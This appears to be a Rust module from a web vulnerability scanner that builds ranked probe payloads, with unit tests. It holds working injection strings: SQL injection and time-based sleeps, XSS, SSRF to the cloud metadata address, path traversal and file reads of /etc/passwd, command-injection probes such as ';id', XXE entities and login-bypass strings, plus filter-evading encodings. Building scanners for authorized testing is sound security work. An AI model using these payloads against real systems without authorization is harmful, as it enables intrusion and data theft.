use data_encoding::BASE64;
use std::collections::HashSet;

use crate::config::SurfaceConfig;
use crate::models::{Encoding, ParamClass, Parameter, Payload, VulnCategory, PAYLOAD_PRIORITY};

/// `(template name, payload text)` pairs per category, most productive first.
pub fn templates(category: VulnCategory) -> &'static [(&'static str, &'static str)] {
    match category {
        VulnCategory::Sqli => &[
            ("quote_error", "'"),
            ("boolean_or", "' OR '1'='1"),
            ("comment_or", "1' OR 1=1--"),
            ("union_null", "' UNION SELECT NULL--"),
            ("double_quote", "\" OR \"1\"=\"1"),
            ("polyglot", "1'\"`) OR 1=1-- -"),
            ("mysql_sleep", "' AND SLEEP(5)--"),
            ("mssql_waitfor", "'; WAITFOR DELAY '0:0:5'--"),
            ("pg_sleep", "' || pg_sleep(5)--"),
        ],
        VulnCategory::Xss => &[
            ("script_tag", "<script>alert(1)</script>"),
            ("attribute_break", "\"><script>alert(1)</script>"),
            ("img_onerror", "<img src=x onerror=alert(1)>"),
            ("svg_onload", "<svg onload=alert(1)>"),
            ("polyglot", "'\"><svg/onload=alert(1)>"),
            ("js_uri", "javascript:alert(1)"),
        ],
        VulnCategory::Ssrf => &[
            ("loopback", "http://127.0.0.1/"),
            ("localhost_ssh", "http://localhost:22/"),
            ("cloud_metadata", "http://169.254.169.254/latest/meta-data/"),
            ("ipv6_loopback", "http://[::1]/"),
            ("file_scheme", "file:///etc/passwd"),
            ("zero_host", "http://0.0.0.0:80/"),
        ],
        VulnCategory::PathTraversal => &[
            ("unix_passwd", "../../../../etc/passwd"),
            ("windows_ini", "..\\..\\..\\..\\windows\\win.ini"),
            ("filter_bypass", "....//....//....//etc/passwd"),
            ("encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        ],
        VulnCategory::Rce => &[
            ("semicolon_id", ";id"),
            ("pipe_id", "|id"),
            ("backtick_id", "`id`"),
            ("subshell_id", "$(id)"),
            ("and_whoami", "&& whoami"),
            ("windows_type", "| type C:\\Windows\\win.ini"),
        ],
        VulnCategory::Xxe => &[
            (
                "file_entity",
                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            ),
            (
                "ssrf_entity",
                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"http://127.0.0.1/\">]><r>&x;</r>",
            ),
        ],
        VulnCategory::Lfi => &[
            ("absolute_passwd", "/etc/passwd"),
            ("php_filter", "php://filter/convert.base64-encode/resource=index.php"),
            ("file_uri", "file:///etc/passwd"),
            ("windows_ini", "C:\\Windows\\win.ini"),
        ],
        VulnCategory::AuthBypass => &[
            ("admin_or", "admin' OR '1'='1"),
            ("admin_comment", "admin'--"),
            ("or_true", "' OR 1=1--"),
            ("admin_double_quote", "admin\" OR \"1\"=\"1"),
        ],
        VulnCategory::PrivilegeEscalation => &[
            ("role_admin", "admin"),
            ("flag_true", "true"),
            ("uid_zero", "0"),
        ],
        _ => &[],
    }
}

/// Plain, encoded and classification-specific variants of one template.
pub fn variants(text: &str, category: VulnCategory, template: &str, class: ParamClass) -> Vec<Payload> {
    let make = |text: String, encoding: Encoding| Payload {
        text,
        category,
        encoding,
        template: template.to_string(),
    };

    let mut out = vec![
        make(text.to_string(), Encoding::Plain),
        make(urlencode(text), Encoding::UrlEncoded),
    ];
    if category != VulnCategory::Xss {
        out.push(make(BASE64.encode(text.as_bytes()), Encoding::Base64));
    }
    match class {
        ParamClass::PathLike => out.push(make(text.replace('/', "%2f"), Encoding::DoubleUrl)),
        ParamClass::Search => out.push(make(format!("{}%", text), Encoding::ContextMutation)),
        ParamClass::Filter => out.push(make(format!("{}||true", text), Encoding::ContextMutation)),
        ParamClass::RedirectLike => {
            out.push(make(format!("javascript:{}", text), Encoding::ContextMutation))
        }
        _ => {}
    }
    out
}

fn urlencode(text: &str) -> String {
    url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

/// Drop repeated `(text, category)` pairs, keeping the first.
pub fn dedup(payloads: Vec<Payload>) -> Vec<Payload> {
    let mut seen: HashSet<(String, VulnCategory)> = HashSet::new();
    payloads
        .into_iter()
        .filter(|p| seen.insert((p.text.clone(), p.category)))
        .collect()
}

/// Ranked payload list for one parameter, following the category priority order.
pub fn generate(param: &Parameter, config: &SurfaceConfig) -> Vec<Payload> {
    let mut all = Vec::new();
    for category in PAYLOAD_PRIORITY {
        let mut for_category: Vec<Payload> = Vec::new();
        for (name, text) in templates(category) {
            for_category.extend(variants(text, category, name, param.classification));
        }
        let mut for_category = dedup(for_category);
        // Keep plain forms first so the per-category cut favours distinct templates
        for_category.sort_by_key(|p| p.encoding != Encoding::Plain);
        for_category.truncate(config.payloads_per_category);
        all.extend(for_category);
    }
    let mut all = dedup(all);
    all.truncate(config.max_payloads_per_parameter);
    all
}

/// Every payload of a category, plain form only; used when a vector needs a
/// category the per-parameter list was truncated before.
pub fn plain_set(category: VulnCategory) -> Vec<Payload> {
    templates(category)
        .iter()
        .map(|(name, text)| Payload::plain(*text, category, name))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::models::{ParamLocation, Sensitivity};

    fn param(class: ParamClass) -> Parameter {
        Parameter {
            name: "p".into(),
            location: ParamLocation::Query,
            classification: class,
            sensitivity: Sensitivity::Low,
            sample_value: None,
        }
    }

    #[test]
    fn test_variants_per_class() {
        let path = variants("../etc/passwd", VulnCategory::PathTraversal, "t", ParamClass::PathLike);
        assert!(path.iter().any(|p| p.encoding == Encoding::DoubleUrl && p.text == "..%2fetc%2fpasswd"));
        assert!(path.iter().any(|p| p.encoding == Encoding::Base64));

        let search = variants("'", VulnCategory::Sqli, "t", ParamClass::Search);
        assert!(search.iter().any(|p| p.text == "'%"));

        let filter = variants("'", VulnCategory::Sqli, "t", ParamClass::Filter);
        assert!(filter.iter().any(|p| p.text == "'||true"));

        let redirect = variants("x", VulnCategory::Ssrf, "t", ParamClass::RedirectLike);
        assert!(redirect.iter().any(|p| p.text == "javascript:x"));
    }

    #[test]
    fn test_no_base64_for_xss() {
        let xss = variants("<script>", VulnCategory::Xss, "t", ParamClass::Generic);
        assert!(xss.iter().all(|p| p.encoding != Encoding::Base64));
        assert_eq!(xss[1].text, "%3Cscript%3E");
    }

    #[test]
    fn test_dedup_by_text_and_category() {
        let a = Payload::plain("x", VulnCategory::Sqli, "a");
        let b = Payload::plain("x", VulnCategory::Sqli, "b");
        let c = Payload::plain("x", VulnCategory::Xss, "c");
        let out = dedup(vec![a, b, c]);
        assert_eq!(out.len(), 2);
        assert_eq!(out[0].template, "a");
    }

    #[test]
    fn test_generate_follows_priority_and_caps() {
        let config = SurfaceConfig { max_endpoints: 50, payloads_per_category: 2, max_payloads_per_parameter: 7 };
        let payloads = generate(&param(ParamClass::Generic), &config);
        assert_eq!(payloads.len(), 7);
        assert_eq!(payloads[0].category, VulnCategory::Sqli);
        assert_eq!(payloads[0].text, "'");
        assert_eq!(payloads[2].category, VulnCategory::Xss);
        assert_eq!(payloads[4].category, VulnCategory::Ssrf);
        assert!(payloads.iter().all(|p| p.encoding == Encoding::Plain));
    }

    #[test]
    fn test_generate_unique() {
        let payloads = generate(&param(ParamClass::Search), &SurfaceConfig::default());
        let unique: HashSet<_> = payloads.iter().map(|p| (p.text.clone(), p.category)).collect();
        assert_eq!(unique.len(), payloads.len());
    }
}
